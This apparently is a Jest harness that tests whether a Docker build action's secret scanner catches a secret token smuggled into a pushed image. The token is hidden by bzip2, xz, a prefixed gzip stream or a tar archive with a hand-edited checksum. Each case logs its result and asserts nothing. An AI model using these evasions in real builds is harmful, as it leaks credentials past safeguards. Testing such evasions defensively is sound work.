import { afterAll, expect, test } from '@jest/globals';
import { randomBytes } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import { everythingVisible, hidden, leaksIn, makeWorkspace, REGISTRY, registryDigest, runAction, type Workspace } from './harness.js';

const nonce = randomBytes(4).toString('hex');
const TOK = `attack-tok-${randomBytes(8).toString('hex')}`;
const BASE = 'FROM secret-build-base:latest';
const workspaces: Workspace[] = [];
afterAll(() => workspaces.forEach((w) => w.cleanup()));

const MK7 = `set -e; cd /tmp; cp /run/secrets/tok s; tar cf t.tar s
old=$(dd if=t.tar bs=1 skip=148 count=6 2>/dev/null)
printf 7 | dd of=t.tar bs=1 seek=156 conv=notrunc 2>/dev/null
printf "%06o" $((0$old + 7)) | dd of=t.tar bs=1 seek=148 conv=notrunc 2>/dev/null
cp t.tar /leak7.tar`;

const cases: [string, string, string, string][] = [
  ['bzip2', 'bzip2 < /run/secrets/tok > /leak.bz2', 'leak.bz2', 'bunzip2'],
  ['xz', 'xz < /run/secrets/tok > /leak.xz', 'leak.xz', 'xz -d'],
  ['gzprefix', '(echo hello; gzip < /run/secrets/tok) > /leak.gzp', 'leak.gzp', 'tail -n +2 | gunzip'],
  ['tar7', MK7, 'leak7.tar', 'tar xOf -']
];

for (const [name, cmd, file, dec] of cases) {
  test(`${name}: secret in image pushed?`, async () => {
    const repo = `sb-attack/${name}-${nonce}`;
    const ws = makeWorkspace({ Dockerfile: `${BASE}\nRUN --mount=type=secret,id=tok,required=true ${hidden(cmd)}\n` });
    workspaces.push(ws);
    const run = await runAction(ws, { secrets: `tok=${TOK}`, 'no-cache': 'true', push: 'true', tags: `${REGISTRY}/${repo}:v1` });
    const errs = run.main.stdout.split('\n').filter((l) => l.startsWith('::error') || l.startsWith('::warning'));
    const digest = await registryDigest(repo, 'v1');
    const got = digest ? spawnSync('/tmp/attack/verify.sh', [`${repo}:v1`, file, dec]).stdout.toString() : '';
    fs.appendFileSync("/tmp/attack/results.txt", JSON.stringify({ out: run.main.stdout.slice(-1500) + run.main.stderr.slice(-800), name, code: run.main.code, errs, digest, recovered: got.trim(), tokMatches: got.includes(TOK), visibleLeaks: leaksIn(everythingVisible(run), [TOK]) }) + '\n');
    expect(true).toBe(true);
  });
}
